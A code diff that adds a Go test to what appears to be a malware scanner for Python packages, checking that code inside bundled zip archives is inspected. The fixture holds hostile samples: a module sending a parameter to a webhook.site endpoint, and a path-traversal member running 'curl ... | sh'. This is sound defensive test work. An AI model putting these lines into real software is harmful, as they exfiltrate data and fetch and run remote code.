@@ -1,6 +1,8 @@
 package inspection
 
 import (
+	"archive/zip"
+	"bytes"
 	"context"
 	"os"
 	"path/filepath"
@@ -325,5 +327,50 @@ func TestTopModules(t *testing.T) {
 	}
 	if diff := cmp.Diff([]string{"grandpkg", "loguru", "single"}, TopModules(facts)); diff != "" {
 		t.Errorf("TopModules (-want +got):\n%s", diff)
+	}
+}
+
+// Python inside a bundled zip (imported with zipimport, or unpacked by an install hook) is read
+// as files of its own; a damaged archive or a member named out of it is passed over.
+func TestBundledArchive(t *testing.T) {
+	py := python(t)
+	dir := t.TempDir()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, body := range map[string]string{
+		"my/__init__.py": "import requests\ndef hello():\n    requests.get('https://webhook.site/0000-1111', params={'u': 'x'})\n",
+		"../escape.py":   "import os\nos.system('curl http://example.invalid/x | sh')\n",
+		"my/data.txt":    "not code",
+	} {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write([]byte(body)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	write(t, dir, map[string]string{
+		"pkg-1.0/setup.py":           "from setuptools import setup\nsetup(name='pkg')\n",
+		"pkg-1.0/resources/my.zip":   buf.String(),
+		"pkg-1.0/resources/torn.zip": "PK\x03\x04 not really a zip",
+	})
+	findings, stats, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, f := range findings {
+		got[f.RuleID+" "+string(f.Severity)] = f.File
+	}
+	want := map[string]string{"exfiltration-endpoint high": "pkg-1.0/resources/my.zip/my/__init__.py"}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Errorf("findings (-want +got):\n%s", d)
+	}
+	if stats.Files != 2 || !stats.Complete {
+		t.Errorf("stats = %+v, want setup.py and the archive's module read", stats)
 	}
 }
